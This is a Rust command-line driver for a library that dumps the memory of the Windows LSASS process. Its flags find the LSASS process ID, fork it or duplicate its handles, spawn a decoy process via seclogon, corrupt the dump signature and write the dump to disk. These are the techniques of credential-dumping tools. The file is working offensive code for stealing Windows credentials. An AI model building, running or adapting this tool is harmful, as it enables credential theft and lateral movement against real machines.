//! A thin, hand-rolled-argv binary that exercises the library locally.
//!
//! This is *not* the production command-line surface spec.md's EXTERNAL
//! INTERFACES table describes (that parser, privilege-enabling, and the
//! host-injection glue are out of scope for this crate) -- it's a
//! development aid in the same role as the teacher's own `src/bin/test.rs`,
//! just parsing enough of the documented flag table to drive
//! [`lsass_dump_writer::controller::run_dump`] by hand.
use std::path::PathBuf;

use lsass_dump_writer::config::{DumpConfig, MalSecLogonConfig};
use lsass_dump_writer::controller::RunOutcome;

struct Args {
    write: Option<PathBuf>,
    pid: Option<u32>,
    getpid: bool,
    valid: bool,
    fork: bool,
    dup: bool,
    malseclogon: bool,
    binary: Option<PathBuf>,
    stage2: bool,
    help: bool,
}

fn parse_args() -> Result<Args, String> {
    let mut args = Args {
        write: None,
        pid: None,
        getpid: false,
        valid: false,
        fork: false,
        dup: false,
        malseclogon: false,
        binary: None,
        stage2: false,
        help: false,
    };

    let mut raw = std::env::args().skip(1);
    while let Some(flag) = raw.next() {
        match flag.as_str() {
            "--write" | "-w" => {
                let path = raw.next().ok_or("--write requires a path")?;
                args.write = Some(PathBuf::from(path));
            }
            "--pid" | "-p" => {
                let pid = raw.next().ok_or("--pid requires a value")?;
                args.pid = Some(pid.parse().map_err(|_| "--pid must be a number")?);
            }
            "--getpid" => args.getpid = true,
            "--valid" | "-v" => args.valid = true,
            "--fork" | "-f" => args.fork = true,
            "--dup" | "-d" => args.dup = true,
            "--malseclogon" | "-m" => args.malseclogon = true,
            "--binary" | "-b" => {
                let path = raw.next().ok_or("--binary requires a path")?;
                args.binary = Some(PathBuf::from(path));
            }
            "--stage2" | "-s2" => args.stage2 = true,
            "--help" | "-h" => args.help = true,
            other => return Err(format!("unknown flag: {other}")),
        }
    }

    Ok(args)
}

fn print_usage() {
    println!(
        "usage: dump [--write PATH] [--pid N] [--getpid] [--valid] [--fork] \
         [--dup] [--malseclogon] [--binary PATH] [--stage2] [--help]"
    );
}

fn main() -> std::process::ExitCode {
    let args = match parse_args() {
        Ok(args) => args,
        Err(msg) => {
            eprintln!("error: {msg}");
            print_usage();
            return std::process::ExitCode::FAILURE;
        }
    };

    if args.help {
        print_usage();
        return std::process::ExitCode::SUCCESS;
    }

    if args.getpid {
        return match lsass_dump_writer::process_list::find_lsass() {
            Ok(pid) => {
                println!("{pid}");
                std::process::ExitCode::SUCCESS
            }
            Err(e) => {
                eprintln!("error: {e}");
                std::process::ExitCode::FAILURE
            }
        };
    }

    let config = DumpConfig {
        pid: args.pid,
        // Presence of --valid selects the canonical signature; its absence
        // selects invalid-signature mode (spec.md §6 scenario 2).
        valid_signature: args.valid,
        fork: args.fork,
        dup: args.dup,
        malseclogon: if args.malseclogon {
            Some(MalSecLogonConfig {
                decoy_binary: args
                    .binary
                    .clone()
                    .unwrap_or_else(|| PathBuf::from("C:\\Windows\\System32\\notepad.exe")),
            })
        } else {
            None
        },
        stage2: args.stage2,
        ..Default::default()
    };

    match lsass_dump_writer::controller::run_dump(&config) {
        Ok(RunOutcome::SpawnedLocalStage2 { decoy_pid }) => {
            log::info!("spawned decoy pid {decoy_pid} to produce the dump as stage 2");
            std::process::ExitCode::SUCCESS
        }
        Ok(RunOutcome::Dumped(outcome)) => {
            if !outcome.soft_errors.is_empty() {
                log::warn!("{}", outcome.soft_errors);
            }
            let result = match &args.write {
                Some(path) => lsass_dump_writer::sink::write_to_path(&outcome.buffer, path),
                None => {
                    println!("wrote {} bytes (no --write path given, discarding)", outcome.buffer.len());
                    Ok(())
                }
            };
            let mut buffer = outcome.buffer;
            lsass_dump_writer::sink::scrub(&mut buffer);
            match result {
                Ok(()) => std::process::ExitCode::SUCCESS,
                Err(e) => {
                    eprintln!("error: {e}");
                    std::process::ExitCode::FAILURE
                }
            }
        }
        Err(e) => {
            eprintln!("error: {e}");
            std::process::ExitCode::FAILURE
        }
    }
}
